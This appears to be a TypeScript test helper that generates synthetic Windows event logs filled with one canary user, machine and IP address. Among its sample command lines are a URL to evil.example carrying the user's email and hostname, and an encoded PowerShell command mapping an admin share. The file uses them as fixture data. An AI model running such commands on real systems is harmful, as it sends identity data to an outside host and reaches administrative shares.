import { windowsLines } from './workbench.ts'

/** A log in which one person, one machine and one address stand in every place that a log has. */
export function canaryLines(count: number): string {
  return windowsLines(count, 'WS-CANARY7.corp.example')
    .split('\n')
    .map((line, index) => {
      const event = JSON.parse(line) as Record<string, unknown>
      return JSON.stringify({
        ...event,
        User: 'CORP\\zq.canary',
        Image: 'C:\\Users\\zq.canary\\AppData\\Local\\Temp\\tool.exe',
        CommandLine: [
          'tool.exe /u ZQ.Canary@corp.example /h \\\\ws-canary7 /t 10.66.77.88',
          'cmd /c start https://evil.example/?e=zq%2ecanary%40corp.example&h=WS-CANARY7',
          `powershell -enc ${Buffer.from('net use \\\\WS-CANARY7\\c$ /user:zq.canary', 'utf16le').toString('base64')}`,
        ][index % 3],
        SourceIp: '10.66.77.88',
      })
    })
    .join('\n')
}
